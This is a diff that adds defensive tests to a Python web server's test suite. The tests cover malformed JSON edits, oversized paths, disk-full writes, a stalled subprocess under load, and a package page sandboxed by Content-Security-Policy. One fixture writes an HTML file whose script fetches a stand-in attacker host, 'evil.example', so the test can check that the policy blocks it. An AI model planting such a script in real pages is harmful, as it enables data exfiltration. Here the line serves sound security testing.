@@ -5,9 +5,11 @@ from __future__ import annotations
 import io
 import json
 import os
+import resource
 import signal
 import zipfile
 from collections.abc import Iterator
+from concurrent.futures import ThreadPoolExecutor
 from pathlib import Path
 
 import numpy as np
@@ -18,6 +20,7 @@ pytest.importorskip("fastapi", reason="the extra studio is not installed")
 from PIL import Image
 
 from f3sr.scene_package.package import read_package
+from f3sr.studio import service_clients
 from resting_boxes import resting_boxes
 from studio_server import StudioServer, studio
 from waiting import soon
@@ -301,3 +304,108 @@ def test_requests_of_another_shape_get_one_line(server: StudioServer, scene: str
     assert server.get(f"{scene}rollouts/1/film.png")[0] == 422
     assert server.get("pages/..%2f..%2fstudio_app.py")[0] in (404, 422)
     assert server.get("docs")[0] == 404 and server.get("openapi.json")[0] == 404
+
+
+# --- attacks ----------------------------------------------------------------------------------------------------------
+
+
+@pytest.mark.parametrize("folder", ["~nobody-at-all/x", "a" * 3000, "/" + "a/" * 1900, "~", "\x7f", " "])
+def test_no_name_of_a_folder_is_more_than_a_line(server: StudioServer, folder: str) -> None:
+    status, told = server.post("projects/folder", {"folder": folder})
+    assert status == 422 and "; accepted: " in told["problem"]
+
+
+DEEP = '{"a":' * 900 + "1" + "}" * 900
+NO_EDITS = {
+    "a lone surrogate": '{"edit": {"kind": "label", "id": 2, "to": "\\ud800"}}',
+    "a key of one": '{"edit": {"kind": "label", "id": 2, "to": "a", "\\ud800": 1}}',
+    "an id that is a list": '{"edit": {"kind": "fix", "id": []}}',
+    "an id that is an object": '{"edit": {"kind": "fix", "id": {}}}',
+    "an id that is true": '{"edit": {"kind": "fix", "id": true}}',
+    "an id of many digits": '{"edit": {"kind": "fix", "id": %s}}' % ("9" * 4200),
+    "no number": '{"edit": {"kind": "move", "id": 2, "by": [NaN, 0, 0]}}',
+    "no end": '{"edit": {"kind": "move", "id": 2, "by": [1e999, 0, 0]}}',
+    "a deep id": f'{{"edit": {{"kind": "fix", "id": {DEEP}}}}}',
+    "a deep edit": '{"edit": %s}' % ('{"a":' * 50_000),
+    "no JSON": "\0",
+}
+
+
+@pytest.mark.parametrize("name", NO_EDITS)
+def test_no_edit_is_unforeseen(server: StudioServer, scene: str, name: str) -> None:
+    before = server.state(f"{scene}scene/state")
+    status, told = server.post_text(f"{scene}scene/edits", NO_EDITS[name])
+    assert status in (400, 422) and list(told) == ["problem"] and "unforeseen" not in told["problem"]
+    assert server.state(f"{scene}scene/state") == before
+
+
+def test_what_has_no_scene_says_so(server: StudioServer) -> None:
+    _, made = server.post("projects/example")
+    place = f"p/{made['id']}/"
+    for path in ("scene/view", "scene/state", "scene/labels.png", "goals/menu"):
+        status, body, _ = server.get(f"{place}{path}")
+        assert status == 422 and json.loads(body)["problem"].startswith("the project: found no scene"), body
+    assert server.post(f"{place}scene/undo")[0] == 422
+    status, body, _ = server.get(f"{place}nowhere")
+    assert status == 404 and json.loads(body) == {"problem": "Not Found"}
+    server.post(f"{place}delete")
+
+
+def test_a_package_is_downloaded_with_its_last_edit(server: StudioServer, scene: str) -> None:
+    assert server.post(f"{scene}scene/edits", {"edit": {"kind": "label", "id": 1, "to": "the last word"}})[0] == 200
+    _, body, _ = server.get(f"{scene}package.zip")
+    with zipfile.ZipFile(io.BytesIO(body)) as archive:
+        assert "the last word" in archive.read("scene.json").decode()
+
+
+def test_an_edit_that_a_full_disk_does_not_keep_is_not_made(server: StudioServer, tmp_path: Path) -> None:
+    _, made = server.post("projects/folder", {"folder": str(resting_boxes(tmp_path / "table").folder)})
+    place, project = f"p/{made['id']}/", server.workspace.project(made["id"])
+    label = {"edit": {"kind": "label", "id": 2, "to": "kept"}}
+    assert server.post(f"{place}scene/edits", label)[0] == 200
+    kept, before = project.edits.read_bytes(), server.state(f"{place}scene/state")
+    pid = server.clients._of(project.folder)._process.pid
+    room = resource.prlimit(pid, resource.RLIMIT_FSIZE, (10, resource.RLIM_INFINITY))
+    for path, value in (("edits", {"edit": {"kind": "label", "id": 2, "to": "lost"}}), ("undo", {})):
+        status, told = server.post(f"{place}scene/{path}", value)
+        assert status == 409 and "cannot be written" in told["problem"]
+        now = server.state(f"{place}scene/state")
+        assert now["edits"] == before["edits"] and now["objects"] == before["objects"] and now["undo"]
+        assert project.edits.read_bytes() == kept
+    resource.prlimit(pid, resource.RLIMIT_FSIZE, room)
+    assert server.post(f"{place}scene/undo")[0] == 200 and json.loads(project.edits.read_bytes())["edits"] == []
+    server.post(f"{place}delete")
+
+
+def test_a_project_that_does_not_answer_takes_no_others_place(
+    server: StudioServer, scene: str, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    """Its page is opened again and again; the server has 40 threads."""
+    project = server.workspace.project(scene.split("/")[1])
+    server.clients.call(project.folder, "saved")
+    pid = server.clients._of(project.folder)._process.pid
+    os.kill(pid, signal.SIGSTOP)
+    try:
+        with ThreadPoolExecutor(60) as asking:
+            asked = [asking.submit(server.get, f"{scene}scene/state") for _ in range(60)]
+            assert soon(lambda: sum(one.done() for one in asked) >= 60 - service_clients.MOST_CALLS, 10)
+            assert server.get("")[0] == 200
+            os.kill(pid, signal.SIGCONT)
+            answers = [one.result()[:2] for one in asked]
+    finally:
+        os.kill(pid, signal.SIGCONT)
+    assert {status for status, _ in answers} == {200, 409}
+    assert all(b"try again" in body for status, body in answers if status == 409)
+
+
+def test_a_package_s_page_cannot_tell_others_what_it_sees(server: StudioServer, scene: str) -> None:
+    project = server.workspace.project(scene.split("/")[1])
+    (project.package / "evil.html").write_text("<script>fetch('https://evil.example/')</script>")
+    place = f"framed/{project.id}/package/evil.html"
+    policy = server.get(place, word=server.secrets.framed)[2].headers["Content-Security-Policy"]
+    allowed = dict(one.strip().partition(" ")[::2] for one in policy.split(";"))
+    assert allowed["default-src"] == "'none'" and "connect-src" not in allowed and allowed["form-action"] == "'none'"
+    assert not any(":" in word for kind, words in allowed.items() for word in words.split() if word != "data:")
+    status, _, _ = server.get(place)  # the word of the studio's own pages: a script could read it from its address
+    assert status == 404
+    (project.package / "evil.html").unlink()
